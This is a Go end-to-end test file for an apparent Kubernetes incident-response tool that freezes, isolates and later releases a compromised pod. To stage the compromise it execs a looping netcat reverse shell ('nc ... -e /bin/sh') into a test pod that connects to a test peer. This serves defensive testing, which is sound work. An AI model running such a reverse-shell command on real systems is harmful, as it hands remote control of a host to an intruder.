//go:build e2e

package e2e

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"amber/testdata/testbed"
)

// shopYAML is a shop that an intruder can break into.
const shopYAML = `
apiVersion: apps/v1
kind: Deployment
metadata: {name: shop, namespace: default}
spec:
  replicas: 1
  selector: {matchLabels: {app: shop}}
  template:
    metadata: {labels: {app: shop}}
    spec:
      terminationGracePeriodSeconds: 1
      containers:
      - name: shop
        image: %s
        imagePullPolicy: Never
        command: [httpd, -f, -p, "8080", -h, /etc]
        readinessProbe: {httpGet: {path: /hosts, port: 8080}, periodSeconds: 1}
        livenessProbe: {httpGet: {path: /hosts, port: 8080}, periodSeconds: 2, failureThreshold: 2}
---
apiVersion: v1
kind: Service
metadata: {name: shop, namespace: default}
spec:
  selector: {app: shop}
  ports: [{port: 80, targetPort: 8080}]
`

// cluster is a Kubernetes with a user of amber on its node.
type cluster struct {
	*testbed.Kubernetes
	*user
}

func newCluster(t *testing.T) cluster {
	k := testbed.StartKubernetes(t)
	u := newUser(t, k.Containerd)
	u.env["KUBECONFIG"], u.env["AMBER_RUN"] = k.Kubeconfig, filepath.Join(u.home, "run")
	return cluster{k, u}
}

// shop is a Deployment whose pod has given a peer a shell.
func (c cluster) shop(t *testing.T) (testbed.Pod, *testbed.Peer, *testbed.Server) {
	t.Helper()
	peer := c.MetadataPeer(t)
	shell := peer.Sink(t, 4444)
	c.Apply(t, fmt.Sprintf(shopYAML, testbed.BusyboxImage))
	pod := c.WaitRollout(t, "default", "shop")[0]
	implant := fmt.Sprintf("while :; do nc %s %d -e /bin/sh; sleep 1; done >/dev/null 2>&1 </dev/null &", peer.Addr4, shell.Port)
	if _, err := c.Kubectl(context.Background(), "exec", pod.Name, "--", "sh", "-c", implant); err != nil {
		t.Fatal(err)
	}
	c.Eventually(t, "the intruder's shell to answer", func(context.Context) error {
		shell.Send("echo owned-$((40+2))\n")
		if !strings.Contains(shell.Got(), "owned-42") {
			return errors.New("nothing came")
		}
		return nil
	})
	return pod, peer, shell
}

// measured is what respond and isolate say of their measures.
type measured struct {
	Case     string
	Measures []struct {
		Method, State, Journal, Error string
		AfterMS                       int64 `json:"after_ms"`
		Checks                        []struct {
			Name, Got string
			OK, Empty bool
		}
	}
	Bundles  []struct{ ID, State, Dir string }
	Left     string
	Warnings []string
}

func (m measured) state(t *testing.T, method, want string) {
	t.Helper()
	for _, k := range m.Measures {
		if k.Method != method {
			continue
		}
		if k.State != want {
			t.Errorf("%s: %s (%s), want %s", method, k.State, k.Error, want)
		}
		for _, c := range k.Checks {
			t.Logf("%s: ok %v empty %v: %s: %s", method, c.OK, c.Empty, c.Name, c.Got)
		}
		return
	}
	t.Errorf("no word of %s in %+v", method, m.Measures)
}

// TestQuarantine is the whole story: a pod with a live reverse shell is
// contained, stays frozen through its probes while another serves, and is
// given back.
func TestQuarantine(t *testing.T) {
	c := newCluster(t)
	pod, peer, shell := c.shop(t)
	ctx := context.Background()
	target := "pod/default/" + pod.Name

	plan := c.run(t, "respond", "--plan", target).want(t, 0)
	plan.says(t, "nft", "probes", "kube", "undone")

	dir := filepath.Join(c.home, "case")
	out := c.run(t, "respond", "--yes", "--output", "json", "--case", dir, "--no-cordon", "--reach", netip.AddrPortFrom(peer.Addr4, 4444).String(), target).want(t, 0, 3)
	var m measured
	out.json(t, &m)
	for _, method := range []string{"nft", "probes", "kube"} {
		m.state(t, method, "held")
	}
	if m.Left != "frozen" {
		t.Errorf("it is left %s", m.Left)
	}
	for _, w := range m.Warnings {
		t.Log("warning: ", w)
	}

	silent := shell.Bytes.Load()
	shell.Send("echo still here\n")
	before := c.successes(t, pod)
	time.Sleep(15 * time.Second) // more than three times what a frozen pod has by its probes
	if got := shell.Bytes.Load(); got != silent {
		t.Errorf("the peer received %d bytes more", got-silent)
	}
	now, err := c.Pod(ctx, "default", pod.Name)
	if err != nil {
		t.Fatal(err)
	}
	if r := now.Containers["shop"].Restarts; r != 0 {
		t.Errorf("it was restarted %d times", r)
	}
	if after := c.successes(t, pod); after <= before {
		t.Errorf("the kubelet counts %d successful liveness probes, as before", after)
	}
	c.Eventually(t, "the replacement to serve alone", func(ctx context.Context) error {
		serving, err := c.Endpoints(ctx, "default", "shop")
		if err == nil && (len(serving) != 1 || slices.Contains(serving, now.Addr4)) {
			err = fmt.Errorf("%v serve; the frozen one is %s", serving, now.Addr4)
		}
		return err
	})
	if _, err := c.Kubectl(ctx, "delete", "pod", pod.Name, "--wait=false"); err == nil {
		t.Error("the held pod can be deleted")
	}
	c.run(t, "isolate", "verify", "--case", dir).want(t, 0)
	second := c.run(t, "respond", "--yes", "--case", filepath.Join(c.home, "second"), target).want(t, 5)
	second.says(t, dir)
	c.bundleHolds(t, dir, m.Bundles[0].ID, "kubernetes/")

	c.run(t, "isolate", "release", "--yes", "--all", "--case", dir).want(t, 0)
	c.Eventually(t, "the shell to be there again", func(context.Context) error {
		if shell.Bytes.Load() == silent {
			shell.Send("echo back\n")
			return errors.New("nothing came")
		}
		return nil
	})
	c.nothingHeld(t, dir)
	if out, err := c.Kubectl(ctx, "get", "networkpolicies,validatingadmissionpolicies,validatingadmissionpolicybindings", "-A", "-o", "name"); err != nil || strings.TrimSpace(out) != "" {
		t.Errorf("what is left in the cluster: %s %v", out, err)
	}
	if out, err := c.Kubectl(ctx, "get", "node", c.NodeName, "-o", "jsonpath={.spec.unschedulable}{.metadata.annotations}"); err != nil || strings.HasPrefix(out, "true") || strings.Contains(out, "amber") {
		t.Errorf("the node is left as %s %v", out, err)
	}
}

// successes is the kubelet's counter of liveness probes of a pod that passed.
func (c cluster) successes(t *testing.T, p testbed.Pod) (n int) {
	t.Helper()
	for probe, count := range c.ProbeCounts(t) {
		if probe.Pod == p.Name && probe.Type == "Liveness" && probe.Result == "successful" {
			n += count
		}
	}
	return n
}

// nothingHeld checks what release must leave: no hold, no responder.
func (u *user) nothingHeld(t *testing.T, dir string) {
	t.Helper()
	if list, err := filepath.Glob(filepath.Join(u.home, "holds", "*.json")); err != nil || len(list) > 0 {
		t.Errorf("held still: %v %v", list, err)
	}
	if list, err := os.ReadDir(filepath.Join(u.home, "run")); err == nil && len(list) > 0 {
		t.Errorf("left behind: %v", list)
	}
	u.run(t, "isolate", "list", "--case", dir).want(t, 0).says(t, "released")
}

// bundleHolds checks that a bundle has members below a path.
func (u *user) bundleHolds(t *testing.T, dir, id, below string) {
	t.Helper()
	r := u.run(t, "evidence", "ls", "--case", dir, id).want(t, 0)
	if !strings.Contains(r.out, below) {
		t.Errorf("the bundle has nothing below %s", below)
	}
}

// TestWorkstation: where there is no runtime, the cluster's API serves for what
// it can do, with no more rights than amber asks for.
func TestWorkstation(t *testing.T) {
	c := newCluster(t)
	c.Apply(t, fmt.Sprintf(shopYAML, testbed.BusyboxImage))
	pod := c.WaitRollout(t, "default", "shop")[0]
	ctx, target := context.Background(), "pod/default/"+pod.Name
	role := filepath.Join(c.home, "role.yaml")
	if err := os.WriteFile(role, []byte(c.run(t, "isolate", "rbac").want(t, 0).out), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Kubectl(ctx, "apply", "-f", role); err != nil {
		t.Fatal(err)
	}
	afar := c.with("CONTAINERD_ADDRESS", "", "AMBER_CONTAINERD_STATE", "", "DOCKER_HOST", "", "KUBECONFIG", c.User(t, "responder"))
	if _, err := c.Kubectl(ctx, "create", "clusterrolebinding", "amber-responder", "--clusterrole=amber-responder", "--serviceaccount=amber-test-users:responder"); err != nil {
		t.Fatal(err)
	}
	c.Eventually(t, "the responder to see the pod", func(context.Context) error {
		if r := afar.run(t, "ps"); !strings.Contains(r.out, target) {
			return fmt.Errorf("ps: %s%s", r.out, r.err)
		}
		return nil
	})
	afar.run(t, "isolate", "--yes", "--method", "nft", target).want(t, 1).says(t, "--via-node")
	dir := filepath.Join(c.home, "afar")
	var m measured
	afar.run(t, "respond", "--yes", "--no-cordon", "--output", "json", "--case", dir, target).want(t, 0, 3).json(t, &m)
	m.state(t, "kube", "held")
	if m.Left == "frozen" || len(m.Bundles) != 1 {
		t.Errorf("left %s, bundles %v", m.Left, m.Bundles)
	}
	c.bundleHolds(t, dir, m.Bundles[0].ID, "kubernetes/")
	if _, err := c.Kubectl(ctx, "delete", "pod", pod.Name, "--wait=false"); err == nil {
		t.Error("the held pod can be deleted")
	}
	afar.run(t, "isolate", "verify", "--case", dir).want(t, 0)
	afar.run(t, "isolate", "release", "--plan", "--rejoin", "--all", "--case", dir).want(t, 0).says(t, "rejoin", "surplus")
	afar.run(t, "isolate", "release", "--yes", "--all", "--case", dir).want(t, 0)
	if out, err := c.Kubectl(ctx, "get", "networkpolicies,validatingadmissionpolicies,validatingadmissionpolicybindings", "-A", "-o", "name"); err != nil || strings.TrimSpace(out) != "" {
		t.Errorf("what is left in the cluster: %s %v", out, err)
	}
}
